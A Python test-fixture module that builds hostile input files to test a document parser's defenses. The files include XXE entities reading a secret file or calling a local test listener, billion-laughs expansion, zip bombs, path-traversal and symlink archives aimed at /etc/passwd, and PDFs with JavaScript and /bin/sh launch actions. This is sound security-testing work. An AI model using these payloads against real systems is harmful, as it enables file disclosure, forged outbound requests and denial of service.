"""Files made to harm whoever reads them: to make it crash, wait, fill memory, write, or fetch.

`{fetch}` addresses lead to a listener of the test, `{secret}` to a file with a word that must turn up nowhere.
"""

from __future__ import annotations

import io
import json
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Collection
from pathlib import Path

from good_files import GOUT, HTML, JATS, JSONL, NOTE, zipped
from small_office_files import workbook
from small_word_files import part_of, saved, with_parts, word_leaflet

_MAIN = "word/document.xml"
_SEC = "<sec><title>x</title><p>y</p>"
_SCHEMA = "http://www.w3.org/2001/XMLSchema-instance"
_IMAGE = b"/Type/XObject/Subtype/Image/Width 2000000000/Height 2000000000/BitsPerComponent 8/ColorSpace/DeviceRGB"


GROUPS = ("entities", "deep", "large", "pages", "word", "archives", "pdfs", "odd", "office")


def hostile_files(fetch: str, secret: Path, groups: Collection[str] = GROUPS) -> dict[str, bytes]:
    """Name to content.

    Args:
        fetch: An address that nobody may open ("http://127.0.0.1:9").
        secret: A file that nobody may open.
        groups: Of what kinds.
    """
    makers: dict[str, Callable[[], dict[str, bytes]]] = {
        "entities": lambda: _entities(fetch, secret),
        "deep": _deep,
        "large": _large,
        "pages": lambda: _pages(fetch),
        "word": lambda: _word(fetch, secret),
        "archives": _archives,
        "pdfs": lambda: _pdfs(fetch),
        "odd": _odd,
        "office": lambda: _office(fetch, secret),
    }
    return {name: content for group in groups for name, content in makers[group]().items()}


def _entities(fetch: str, secret: Path) -> dict[str, bytes]:
    place = secret.as_uri()
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    quadratic = f'<!DOCTYPE a [<!ENTITY a "{"a" * 100_000}">]><a>{"&a;" * 20_000}</a>'
    external = {
        "file": f'<!DOCTYPE a [<!ENTITY e SYSTEM "{place}">]><a><p>{GOUT} &e;</p></a>',
        "net": f'<!DOCTYPE a [<!ENTITY e SYSTEM "{fetch}/entity">]><a><p>{GOUT} &e;</p></a>',
        "dtd": f'<!DOCTYPE a SYSTEM "{fetch}/a.dtd"><a><p>{GOUT}</p></a>',
        "parameter": f'<!DOCTYPE a [<!ENTITY % p SYSTEM "{fetch}/p.dtd">%p;]><a><p>{GOUT}</p></a>',
        "include": f'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="{place}"/>{GOUT}</a>',
        "style": f'<?xml-stylesheet href="{fetch}/s.xsl" type="text/xsl"?><a><p>{GOUT}</p></a>',
        "schema": f'<a xmlns:s="{_SCHEMA}" s:schemaLocation="x {fetch}/x.xsd">{GOUT}</a>',
        "laughs": f'<!DOCTYPE a [<!ENTITY l0 "lol">{laughs}]><a>&l11;</a>',
        "quadratic": quadratic,
        "loop": '<!DOCTYPE a [<!ENTITY a "&b;"><!ENTITY b "&a;">]><a>&a;</a>',
    }
    files = {f"xml-{name}.xml": f'<?xml version="1.0"?>{text}'.encode() for name, text in external.items()}
    files["jats-xxe.xml"] = (
        JATS.replace('"JATS-archivearticle1.dtd"', f'"{fetch}/j.dtd" [<!ENTITY e SYSTEM "{place}">]')
        .replace("We counted.", "&e;")
        .encode()
    )
    files["utf16-xxe.xml"] = external["file"].encode("utf-16")
    files["utf7-xxe.xml"] = b'<?xml version="1.0" encoding="UTF-7"?>' + external["file"].encode("utf-7")
    return files


def _office(fetch: str, secret: Path) -> dict[str, bytes]:
    deep = 20_000
    entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{secret.as_uri()}">]><x>&e;</x>'.encode()
    link = f'{{\\rtf1 {GOUT}{{\\field{{\\*\\fldinst INCLUDETEXT "{secret.as_uri()}"}}{{\\fldrslt }}}}'
    multipart = "".join(f"Content-Type: multipart/mixed; boundary=b{n}\n\n--b{n}\n" for n in range(deep))
    outside = f"Content-Type: message/external-body; access-type=URL; URL={fetch}/x\n\nContent-Type: text/plain\n\n"
    page = f'<link rel="stylesheet" href="{fetch}/s.css"><p>{GOUT}</p><img src="{fetch}/i.png"><iframe src="{fetch}/f">'
    book_of = {
        "mimetype": b"application/epub+zip",
        "META-INF/container.xml": b"<container><rootfile full-path='../../../etc/passwd'/></container>",
    }
    opened = {
        "mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": entity, "META-INF/manifest.xml": b"<a/>",
    }  # fmt: skip
    wide = b"".join(b"<table:table-cell table:number-columns-repeated='99999'/>" for _ in range(2_000))
    flat = b"<?xml version='1.0'?><d office:mimetype='application/vnd.oasis.opendocument.text'><table:table>"
    far = f'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>{GOUT}</t></is></c></row>'.encode()
    lecture = {"ppt/presentation.xml": entity, "[Content_Types].xml": b"<a/>"}
    sheet = members_of_zip(workbook())
    sheet["xl/worksheets/sheet1.xml"] = sheet["xl/worksheets/sheet1.xml"].replace(
        b"</sheetData>", far + b"</sheetData>"
    )
    return {
        "braces.rtf": b"{\\rtf1 " + b"{" * 1_000_000 + GOUT.encode(),
        "binary.rtf": b"{\\rtf1 " + GOUT.encode() + b"\\bin2147483647 x}",
        "linked.rtf": link.encode(),
        "deep.eml": f"From: a@b.test\n{multipart}".encode(),
        "outside.eml": f"From: a@b.test\nSubject: Gout\n{outside}".encode(),
        "page.eml": f"From: a@b.test\nContent-Type: text/html\n\n{page}".encode(),
        "recipients.eml": b"From: a@b.test\nTo: " + b"<a@b.test>, " * 100_000 + b"\n\n" + GOUT.encode(),
        "encoded.eml": b"Subject: " + b"=?utf-8?q?a?= " * 100_000 + b"\n\n" + GOUT.encode(),
        "outside.epub": zipped(book_of),
        "entity.odt": zipped(opened),
        "wide.fodt": flat + b"<table:table-row>" + wide + b"</table:table-row></table:table></d>",
        "entity.pptx": zipped(lecture),
        "far.xlsx": zipped(sheet),
    }


def members_of_zip(content: bytes) -> dict[str, bytes]:
    """What an archive holds, by name."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _deep() -> dict[str, bytes]:
    deep = 200_000
    pdf = f"%PDF-1.4\n1 0 obj\n{'[' * deep}{']' * deep}\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    return {
        "deep.html": f"<body>{'<div>' * deep}{GOUT}{'</div>' * deep}".encode(),
        "deep-lists.html": f"<body>{'<ul><li>' * (deep // 4)}{GOUT}".encode(),
        "deep-tables.html": f"<body>{'<table><tr><td>' * (deep // 8)}{GOUT}".encode(),
        "deep-inline.html": f"<body><p>{'<b><i>' * (deep // 4)}{GOUT}".encode(),
        "deep.xml": f"<a>{'<b>' * deep}{GOUT}{'</b>' * deep}</a>".encode(),
        "deep-sections.xml": f"<article><body>{_SEC * 20_000}{'</sec>' * 20_000}</body></article>".encode(),
        "deep.json": ("[" * deep + "]" * deep).encode(),
        "deep.jsonl": ('{"text": ' * deep + '"a"' + "}" * deep).encode(),
        "deep-fhir.json": ('{"resourceType": "Composition", "section": [' * 5_000 + "]}" * 5_000).encode(),
        "deep.md": (">" * deep + f" {GOUT}\n").encode(),
        "deep-lists.md": "".join(f"{' ' * (2 * n)}- {n}\n" for n in range(2_000)).encode(),
        "deep-brackets.md": ("[" * deep + "]" * deep + "\n" + "*_" * deep).encode(),
        "deep.pdf": pdf.encode(),
    }


def _large() -> dict[str, bytes]:
    return {
        "one-line.txt": b"gout " * 2_000_000,
        "one-word.txt": b"g" * 5_000_000,
        "lines.txt": b"\n" * 5_000_000,
        "headings.md": b"# a\n" * 200_000,
        "attributes.html": f"<p {' '.join(f'a{n}=1' for n in range(200_000))}>{GOUT}</p>".encode(),
        "entities.html": f"<p>{'&amp;' * 500_000}</p>".encode(),
        "cells.html": f"<table>{'<tr><td colspan=65000 rowspan=65000>x' * 3_000}</table>".encode(),
        "columns.csv": (",".join(f"c{n}" for n in range(100_000)) + "\n" + ",".join("1" * 100_000) + "\n").encode(),
        "quote.csv": b'id,text\n1,"' + b"never closed\n" * 300_000,
        "number.jsonl": b'{"id": ' + b"9" * 2_000_000 + b', "text": "gout"}\n',
        "row.jsonl": json.dumps({"id": "1", "title": "Gout", "text": GOUT * 50_000}).encode(),
        "stars.md": b"*" * 300_000 + b"\n" + b"`" * 300_000,
        "tags.html": b"<" * 2_000_000,
        "comments.html": b"<!-" * 500_000 + b"<p>Gout</p>",
    }


def _pages(fetch: str) -> dict[str, bytes]:
    active = (
        f'<script src="{fetch}/s.js"></script><img src="{fetch}/i.png" onerror="fetch(\'{fetch}\')">'
        f'<iframe src="{fetch}/f"></iframe><link rel="stylesheet" href="{fetch}/c.css"><base href="{fetch}/">'
        f'<object data="{fetch}/o"></object><svg><image href="{fetch}/v"/></svg>'
        f'<meta http-equiv="refresh" content="0;url={fetch}">'
    )
    fhir = {
        "resourceType": "DocumentReference", "id": "d", "status": "current",
        "content": [{"attachment": {"contentType": "text/plain", "url": f"{fetch}/a.txt"}}],
    }  # fmt: skip
    return {
        "active.html": HTML.replace("<main>", f"<main>{active}").encode(),
        "active.md": f"# Gout\n\n![i]({fetch}/i.png) {active}\n\n{GOUT}\n".encode(),
        "attachment.json": json.dumps(fhir).encode(),
        "fhir-div.json": json.dumps(
            {"resourceType": "DiagnosticReport", "id": "r", "text": {"div": f"<div>{active}{GOUT}</div>"}}
        ).encode(),
    }


def _word(fetch: str, secret: Path) -> dict[str, bytes]:
    whole = saved(word_leaflet())
    body = part_of(whole, _MAIN)
    relations = part_of(whole, "word/_rels/document.xml.rels")

    def related(target: str, mode: str = "") -> bytes:
        told = f'<Relationship Id="rx" Type="a/footnotes" Target="{target}" {mode}/></Relationships>'
        return with_parts(
            whole, {"word/_rels/document.xml.rels": relations.replace(b"</Relationships>", told.encode())}
        )

    entity = f'<!DOCTYPE w [<!ENTITY e SYSTEM "{secret.as_uri()}">]><w:document'.encode()
    nested = b"<w:sdt><w:sdtContent>" * 5_000 + b"</w:sdtContent></w:sdt>" * 5_000
    tables = b"<w:tbl><w:tr><w:tc>" * 80 + b"<w:p/>" + b"</w:tc></w:tr></w:tbl>" * 80
    return {
        "entity.docx": with_parts(whole, {_MAIN: body.replace(b"<w:document", entity, 1)}),
        "bomb.docx": with_parts(whole, {_MAIN: body.replace(b"</w:body>", b" " * 50_000_000 + b"</w:body>")}),
        "far.docx": related(f"{fetch}/notes.xml", 'TargetMode="External"'),
        "far-inside.docx": related(f"{fetch}/notes.xml"),
        "traversal.docx": related("../../../../../../etc/passwd"),
        "nested.docx": with_parts(whole, {_MAIN: body.replace(b"<w:body>", b"<w:body>" + nested)}),
        "tables.docx": with_parts(whole, {_MAIN: body.replace(b"<w:body>", b"<w:body>" + tables)}),
        "spans.docx": with_parts(
            whole, {_MAIN: body.replace(b"<w:tc>", b'<w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr>')}
        ),
        "levels.docx": with_parts(
            whole, {_MAIN: body.replace(b"<w:pPr>", b'<w:pPr><w:outlineLvl w:val="99999999999"/>')}
        ),
    }


def _archives() -> dict[str, bytes]:
    inner = zipped({"zeros.txt": b"0" * 20_000_000})
    for _ in range(4):
        inner = zipped({f"{n}.zip": inner for n in range(8)})
    link = zipfile.ZipInfo("link.txt")
    link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    linked = io.BytesIO()
    with zipfile.ZipFile(linked, "w") as archive:
        archive.writestr(link, "/etc/passwd")
        archive.writestr("good.txt", NOTE)
    names = ["../escaped.txt", "../../escaped.txt", "/opt/escaped.txt", "a/../../escaped.txt", "C:\\escaped.txt",
             "..\\escaped.txt", "\\\\host\\escaped.txt", "a\x00b.txt", "a\nb.txt", "con.txt", "x" * 5_000 + ".txt",
             "\u202etxt.exe", "good.txt"]  # fmt: skip
    good = zipped({"a.txt": NOTE.encode(), "b.txt": NOTE.encode()})
    lying = bytearray(good)
    at = lying.rindex(b"PK\x01\x02")
    lying[at + 24 : at + 28] = struct.pack("<I", 0xFFFFFFF0)
    return {
        "bomb.zip": zipped({"zeros.txt": b"0" * 100_000_000}),
        "nested-bomb.zip": inner,
        "traversal.zip": zipped({name: NOTE.encode() for name in names}),
        "symlink.zip": linked.getvalue(),
        "lying.zip": bytes(lying),
        "many.zip": zipped({f"{n}.txt": b"" for n in range(20_000)}),
        "twice.zip": good + good,
        "no-end.zip": good[:-10],
        "bomb.jsonl.gz": _gzip(JSONL.encode() * 50_000),
    }


def _gzip(content: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    return packer.compress(content) + packer.flush()


def raw_pdf(objects: list[bytes], trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A PDF of these objects, numbered from 1, with a table that finds them."""
    body, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, start=1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(objects) + 1, table)
    return body + head + b"trailer\n<<%s/Size %d>>\nstartxref\n%d\n%%%%EOF" % (trailer, len(objects) + 1, len(body))


def _stream(content: bytes, more: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (more, len(content), content)


def _pdfs(fetch: str) -> dict[str, bytes]:
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    words = b"BT /F1 12 Tf 72 700 Td (Gout is a form of arthritis) Tj ET"

    def page(contents: bytes, box: bytes = b"0 0 595 842", catalog: bytes = b"", more: bytes = b"") -> bytes:
        return raw_pdf(
            [
                b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
                b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
                b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>%s>>"
                % (box, more),
                contents,
                font,
            ]
        )

    bomb = zlib.compress(zlib.compress(b" " * 100_000_000, 9), 9)
    forms = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 4 0 R>>>>"
    address = fetch.encode()
    return {
        "bomb.pdf": page(_stream(bomb, b"/Filter[/FlateDecode/FlateDecode]")),
        "huge-page.pdf": page(_stream(words), b"0 0 1e12 1e12"),
        "negative-page.pdf": page(_stream(words), b"0 0 -5 -5"),
        "nan-page.pdf": page(_stream(words), b"0 0 999999999999999999999999999999999999999999 nan"),
        "huge-font.pdf": page(_stream(words.replace(b"12 Tf", b"1e30 Tf"))),
        "odd-matrix.pdf": page(_stream(b"1e20 1e-20 -1e20 0 1e30 -1e30 cm " + words)),
        "many-words.pdf": page(_stream(b"BT /F1 1 Tf 1 0 0 1 5 5 Tm " + b"(gout) Tj 3 0 Td " * 60_000 + b"ET")),
        "many-lines.pdf": page(
            _stream(b"BT /F1 1 Tf 5 800 Td " + b"(a b) Tj 90 0 Td (c d) Tj -90 -0.04 Td " * 15_000 + b"ET")
        ),
        "actions.pdf": page(
            _stream(words),
            catalog=b"/OpenAction<</S/URI/URI(%s/open)>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.launchURL"
            b"\\('%s/js'\\))>>]>>>>/AA<</WC<</S/Launch/F(/bin/sh)>>>>" % (address, address),
            more=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/F(%s/r.pdf)>>>>]" % address,
        ),
        "external-stream.pdf": page(b"<</F(/etc/passwd)/Length 0>>\nstream\n\nendstream"),
        "own-child.pdf": raw_pdf(
            [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 99999999>>"]
        ),
        "many-pages.pdf": raw_pdf(
            [
                b"<</Type/Catalog/Pages 2 0 R>>",
                b"<</Type/Pages/Kids[3 0 R]/Count 2000000000>>",
                b"<</Type/Page/Parent 2 0 R>>",
            ]
        ),
        "own-outline.pdf": page(_stream(words), catalog=b"/Outlines<</First 6 0 R>>").replace(
            b"xref", b"6 0 obj\n<</Title(x)/Next 6 0 R/First 6 0 R>>\nendobj\nxref", 1
        ),
        "own-form.pdf": page(forms + _stream(b"/X Do")[2:]),
        "own-stream.pdf": page(b"<</Length 4 0 R>>\nstream\n%s\nendstream" % words),
        "xref-loop.pdf": raw_pdf([b"<</Type/Catalog/Pages 2 0 R>>"], b"/Root 1 0 R/Prev 9"),
        "nothing.pdf": b"%PDF-1.7\n%%EOF",
        "image.pdf": page(_stream(b"\0", _IMAGE)),
    }


def _odd() -> dict[str, bytes]:
    return {
        "empty.txt": b"",
        "white.txt": b" \n\t \r\n",
        "nul.txt": b"gout\x00arthritis\x00" * 50,
        "surrogates.json": b'{"resourceType": "DiagnosticReport", "id": "r", "conclusion": "\\ud800 gout \\udfff"}',
        "surrogates.jsonl": b'{"id": "1", "title": "\\ud83d", "text": "gout \\ude00 is"}\n',
        "nan.jsonl": b'{"id": NaN, "title": "Gout", "text": "Infinity", "date": Infinity}\n',
        "types.json": b'{"resourceType": ["Composition"], "section": {"text": 7}, "title": {"a": null}}',
        "types.jsonl": b'{"id": {}, "title": [], "text": {"a": 1}, "sections": "x"}\n[1, 2]\nnull\n"a"\n',
        "bom.html": b"\xef\xbb\xbf\xff\xfe" + HTML.encode(),
        "latin.txt": "Müdigkeit, Übelkeit, naïve café. ".encode("latin-1") * 20,
        "utf16.html": HTML.encode("utf-16"),
        "utf32.txt": NOTE.encode("utf-32"),
        "wrong.html": b'<meta charset="utf-16">' + HTML.encode(),
        "unknown.html": b'<meta charset="x-no-such">' + HTML.encode(),
        "controls.md": bytes(range(32)) * 20 + b"\n# \x85\xe2\x80\xa8x\n",
    }
